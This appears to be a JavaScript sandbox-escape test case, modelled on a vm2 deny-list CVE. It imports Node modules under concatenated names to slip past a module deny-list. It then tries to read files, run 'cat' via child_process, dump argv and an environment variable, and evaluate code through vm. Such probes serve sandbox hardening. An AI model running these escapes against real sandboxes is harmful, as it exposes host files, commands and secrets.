// Tries: node: modules with computed names, with and without their scheme.
// Origin: vm2 CVE-2026-47140 (a deny-list of modules).

const settle = async (load) => {
  let outcome;
  load().then((module) => outcome = { module }, (error) => outcome = { error });
  for (let turn = 0; turn < 300 && !outcome; turn++) {
    if (typeof Deno === "object") await new Promise((resolve) => setTimeout(resolve, 5));
    else await crypto.subtle.digest("SHA-256", new Uint8Array(100000));
  }
  return outcome?.module ?? outcome?.error ?? "nothing";
};

const found = [];
for (const name of ["fs", "child_process", "os", "module", "process", "vm", "v8"]) {
  const module = await settle(() => import("no" + "de:" + name));
  try {
    if (name === "fs") found.push(module.readFileSync(input.file, "utf8"));
    if (name === "child_process") found.push(module.execFileSync("cat", [input.file], { encoding: "utf8" }));
    if (name === "module") found.push(module.createRequire("file:///x")("fs").readFileSync(input.file, "utf8"));
    if (name === "process") found.push(module.default.argv, module.default.env[input.env]);
    if (name === "vm") found.push(module.default.runInThisContext("[Deno.args]"));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
